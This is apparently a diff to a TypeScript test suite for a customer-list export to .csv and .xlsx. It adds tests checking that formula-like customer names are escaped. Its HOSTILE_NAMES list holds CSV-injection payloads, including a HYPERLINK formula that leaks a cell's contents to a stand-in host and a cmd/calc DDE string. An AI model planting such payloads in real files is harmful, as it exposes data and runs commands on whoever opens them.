@@ -212,8 +212,9 @@ describe('xlsx', () => {
     expect(sheet.getRow(2).getCell(3).value).toBe('欧阳娜娜');
     expect(sheet.getRow(2).getCell(2).value).toBe('超时升级');
     expect(sheet.getRow(2).getCell(11).value).toBe('回访报价, 问"金融方案"\n下周再约');
-    // A name that looks like a formula stays text.
-    expect(sheet.getRow(4).getCell(3).value).toBe('=HYPERLINK("x")');
+    // A name that looks like a formula stays text, and is escaped so that editing the cell in
+    // Excel (or saving the sheet as .csv) cannot turn it into one.
+    expect(sheet.getRow(4).getCell(3).value).toBe('\'=HYPERLINK("x")');
     expect(sheet.getRow(4).getCell(8).value).toBeNull();
     expect(sheet.getRow(5).getCell(2).value).toBe('无计划客户');
 
@@ -283,6 +284,60 @@ describe('csv', () => {
     expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(buildCsv(document))).toBe(
       buildCsvText(document),
     );
+  });
+});
+
+// Names a customer could be given (by a colleague, or through an import) to attack whoever opens
+// the export in a spreadsheet: each holds a formula at the start of the cell or of a line.
+const HOSTILE_NAMES = [
+  '=HYPERLINK("https://x/?d="&D2,"查看")\n',
+  '=HYPERLINK("https://x/?d="&D2,"查看")\r\n张伟',
+  '张伟\n=1+1',
+  '张伟\r@SUM(1)',
+  "张伟\u2028+cmd|' /C calc'!A0",
+  '张伟\t-2+3',
+  '\t=1+1',
+  '\r=1+1',
+  '-2+3',
+  '@SUM(1)',
+];
+const HOSTILE_ROWS = HOSTILE_NAMES.map((customerName) => row({ customerName }));
+
+/** True when some line (or tab-separated piece) of the cell starts a formula. */
+function startsFormula(cell: string): boolean {
+  return cell.split(/\r\n|[\r\n\t\u2028\u2029]/).some((line) => /^[=+\-@]/.test(line));
+}
+
+describe('hostile cells', () => {
+  it('neutralises every line of every cell in the .csv', () => {
+    const text = buildCsvText(documentOf(HOSTILE_ROWS));
+    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
+    expect(parsed.errors).toEqual([]);
+    const names = parsed.data.slice(1).map((cells) => cells[2] ?? '');
+    expect(names).toHaveLength(HOSTILE_NAMES.length);
+    names.forEach((name, index) => {
+      expect(startsFormula(name), JSON.stringify(name)).toBe(false);
+      // Only apostrophes were added: the name is still all there.
+      expect(name.replaceAll("'", '')).toBe(HOSTILE_NAMES[index]?.replaceAll("'", ''));
+    });
+  });
+
+  it('neutralises every line of every cell in the .xlsx', async () => {
+    const bytes = await buildXlsx(documentOf(HOSTILE_ROWS));
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes.slice().buffer);
+    const sheet = workbook.getWorksheet('跟进清单');
+    if (!sheet) throw new Error('no sheet 跟进清单');
+    HOSTILE_NAMES.forEach((hostile, index) => {
+      const cell = sheet.getRow(index + 2).getCell(3);
+      expect(cell.formula).toBeUndefined();
+      const value = cell.value;
+      if (typeof value !== 'string') throw new Error(`not text: ${JSON.stringify(value)}`);
+      expect(startsFormula(value), JSON.stringify(value)).toBe(false);
+      // XML reads every CR LF and lone CR back as LF.
+      const lineEnds = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll("'", '');
+      expect(lineEnds(value)).toBe(lineEnds(hostile));
+    });
   });
 });
 
